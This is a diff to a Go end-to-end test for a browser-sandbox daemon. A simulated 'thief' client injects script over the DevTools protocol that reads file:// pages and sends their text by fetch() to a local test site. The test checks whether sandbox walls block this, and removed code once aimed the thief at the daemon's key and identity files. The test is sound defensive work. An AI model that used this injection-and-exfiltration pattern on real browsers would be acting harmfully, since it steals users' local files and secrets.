@@ -1,14 +1,11 @@
 package e2e
 
 import (
-	"crypto/rand"
 	"encoding/json"
-	"errors"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
-	"os"
-	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -25,36 +22,14 @@ const watchLoot = 3 * time.Second
 // off or left without an answer. Where none stands, a step takes what it takes.
 const stepTime = 5 * time.Second
 
-// walls are sets of build tags that leave one wall standing, or none.
-var walls = []struct {
-	name   string
-	tags   []string
-	engine string // where the wall exists; empty: both
-	open   bool   // no wall stands: the bytes must arrive
-	short  string // who runs the daemon in make test: "root", "user" or both; make test-long has all
-}{
-	{name: "no wall", tags: []string{noLandlock, noBlocklist, noTargetPolicy}, open: true, short: "root"},
-	{name: "Landlock alone", tags: []string{noBlocklist, noTargetPolicy}, short: "user"},
-	{name: "block list alone", tags: []string{noLandlock, noTargetPolicy}, engine: "chrome", short: "user"},
-	{name: "target policy alone", tags: []string{noLandlock, noBlocklist}, short: "root"},
-	{name: "all walls"},
-}
-
-const (
-	noLandlock     = "stasis_no_landlock"
-	noBlocklist    = "stasis_no_blocklist"
-	noTargetPolicy = "stasis_no_target_policy"
-)
-
-// thief is a CDP client that is after a file of the machine.
+// thief is a CDP client that is after files of the machine.
 type thief struct {
 	t      *testing.T
 	d      *daemon.Daemon
 	s      liveSession
 	w      *wire
 	site   *httptest.Server // serves pages, and takes what pages send it
-	path   string           // of the file
-	loot   string           // what is in it
+	loot   []loot
 	engine string
 	open   bool // no wall stands, so that the bytes must arrive
 
@@ -62,46 +37,12 @@ type thief struct {
 	sent []string // what pages have sent to the site
 }
 
-// newThief plants a file that everybody may read, outside of the data directory.
-func newThief(t *testing.T, d *daemon.Daemon) *thief {
-	x := &thief{t: t, d: d, loot: planted}
-	dir := t.TempDir()
-	for at := dir; at != os.TempDir() && at != "/"; at = filepath.Dir(at) {
-		if err := os.Chmod(at, 0o755); err != nil {
-			t.Fatal(err)
-		}
-	}
-	x.path = filepath.Join(dir, "loot.txt")
-	if err := os.WriteFile(x.path, []byte(planted), 0o644); err != nil {
-		t.Fatal(err)
-	}
+// newThief gives the thief a site of its own.
+func newThief(t *testing.T, d *daemon.Daemon, l []loot) *thief {
+	x := &thief{t: t, d: d, loot: l}
 	x.site = httptest.NewServer(http.HandlerFunc(x.serve))
 	t.Cleanup(x.site.Close)
 	return x
-}
-
-// secrets are what a daemon without root has in its data directory that only its own
-// user may read, one for each try of a route in turn.
-var secrets = []string{"api-key", "identity", "identity", "archive-key", "identity", "archive-key"}
-
-// steal has the thief go after a secret of the daemon itself.
-func (x *thief) steal(name string) {
-	x.t.Helper()
-	x.path = filepath.Join(x.d.Dir, name)
-	switch name {
-	case "api-key": // tests give the key in the environment
-		x.loot = "stasis_" + rand.Text()
-		if err := errors.Join(os.WriteFile(x.path, []byte(x.loot), 0o600), os.Chown(x.path, unprivileged, unprivileged)); err != nil {
-			x.t.Fatal(err)
-		}
-	default:
-		raw, err := os.ReadFile(x.path)
-		if err != nil {
-			x.t.Fatal(err)
-		}
-		lines := strings.Fields(string(raw))
-		x.loot = lines[len(lines)-1]
-	}
 }
 
 // serve is the thief's own site.
@@ -112,6 +53,12 @@ func (x *thief) serve(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == "/paper.pdf" {
 		w.Header().Set("Content-Type", "application/pdf")
 		_, _ = fmt.Fprint(w, onePage)
+		return
+	}
+	if r.URL.Path == "/file.bin" {
+		w.Header().Set("Content-Type", "application/octet-stream")
+		w.Header().Set("ETag", `"one"`)
+		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(strings.Repeat("x", 27)))
 		return
 	}
 	w.Header().Set("Content-Type", "text/html")
@@ -177,50 +124,80 @@ func (x *thief) eval(session, script string) string {
 // thief's site. It does not wait for the answers.
 func (x *thief) spy(session string) {
 	x.w.post(session, "Page.addScriptToEvaluateOnNewDocument", obj{"source": `addEventListener("DOMContentLoaded", () => {
-		const text = document.documentElement.innerText; console.log("spy", location.href, text);
+		const text = document.documentElement.textContent; console.log("spy", location.href, text);
 		if (location.protocol == "file:") fetch("` + x.site.URL + `/?" + encodeURIComponent(text), {mode: "no-cors"}) })`})
 	x.w.post(session, "Page.enable", nil)
 	x.w.post(session, "Runtime.enable", nil)
 }
 
-// newPage opens a page of the thief's site.
-func (x *thief) newPage() (session, target string) {
+// newPage opens a page of the thief's site, and waits until it has loaded.
+func (x *thief) newPage(path string) (session, target string) {
 	x.t.Helper()
 	var made struct{ TargetID string }
-	x.w.call("", "Target.createTarget", obj{"url": x.site.URL + "/"}, &made)
-	return x.w.attach(made.TargetID), made.TargetID
+	x.w.call("", "Target.createTarget", obj{"url": "about:blank"}, &made)
+	session = x.w.attach(made.TargetID)
+	x.w.open(session, x.site.URL+path)
+	return session, made.TargetID
 }
 
-// url is the file's.
-func (x *thief) url() string { return "file://" + x.path }
+// restore begins a session on a profile that was imported. Its one tab went to the
+// loot, and then to the page of the thief's site that it gives.
+func (x *thief) restore() (last string) {
+	x.t.Helper()
+	last = x.site.URL + "/"
+	a := imports(x.t, x.d, "datadir", visited(x.t, append(x.urls(), last)...))
+	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID, "restore_tabs": true})
+	return last
+}
 
-// arrived says whether the file's bytes have come to the thief.
-func (x *thief) arrived() bool {
-	if x.w.heardRaw(x.loot) {
+// urls are the addresses of the loot.
+func (x *thief) urls() (urls []string) {
+	for _, l := range x.loot {
+		urls = append(urls, l.url())
+	}
+	return urls
+}
+
+// arrived says whether what a thief reads in the loot has come.
+func (x *thief) arrived(l loot) bool {
+	if x.w.heardRaw(l.text) {
 		return true
 	}
 	x.mu.Lock()
 	defer x.mu.Unlock()
-	for _, s := range x.sent {
-		if strings.Contains(s, x.loot) {
-			return true
-		}
-	}
-	return false
+	return slices.ContainsFunc(x.sent, func(s string) bool { return strings.Contains(s, l.text) })
 }
 
-// got looks for the bytes for a while.
-func (x *thief) got() bool {
-	for end := time.Now().Add(x.within(watchLoot)); time.Now().Before(end); {
-		if x.arrived() {
-			return true
-		}
-		select {
-		case <-x.w.heard:
-		case <-time.After(20 * time.Millisecond): // the site hears of what comes over the network
+// all says whether all of the loot has arrived.
+func (x *thief) all() bool {
+	return !slices.ContainsFunc(x.loot, func(l loot) bool { return !x.arrived(l) })
+}
+
+// pause waits for the next message, for a moment at most: another reader may have taken
+// the token, and the site hears of what comes over the network.
+func (x *thief) pause() {
+	select {
+	case <-x.w.heard:
+	case <-time.After(20 * time.Millisecond):
+	}
+}
+
+// watch looks for what arrives, until all has or the time is over.
+func (x *thief) watch() {
+	for end := time.Now().Add(x.within(watchLoot)); time.Now().Before(end) && !x.all(); {
+		x.pause()
+	}
+}
+
+// count fails the test if not all of the loot has arrived where no wall stands, or
+// anything where one does.
+func (x *thief) count() {
+	x.t.Helper()
+	for _, l := range x.loot {
+		if got := x.arrived(l); got != x.open {
+			x.t.Errorf("%s (%s) arrived: %v", l.name, l.path, got)
 		}
 	}
-	return x.arrived()
 }
 
 // find gives the target at an address that begins so, once there is one; empty if
@@ -277,16 +254,4 @@ func (x *thief) attach(target string) string {
 	}
 	_ = json.Unmarshal(x.step("", "Target.attachToTarget", obj{"targetId": target, "flatten": true}).Result, &got) // an empty answer has none
 	return got.SessionID
-}
-
-// byOrdinaryUser are the options of a daemon that an ordinary user runs.
-func byOrdinaryUser(t *testing.T) daemon.Options {
-	t.Helper()
-	const uid = unprivileged
-	dir := daemon.DataDir(t)
-	if err := errors.Join(os.Chown(dir, uid, uid), os.Chmod(dir, 0o700)); err != nil {
-		t.Fatal(err)
-	}
-	return daemon.Options{Dir: dir, Env: []string{"HOME=" + dir, "TMPDIR=" + dir},
-		Prefix: []string{"setpriv", "--reuid", "12345", "--regid", "12345", "--clear-groups", "--"}}
 }
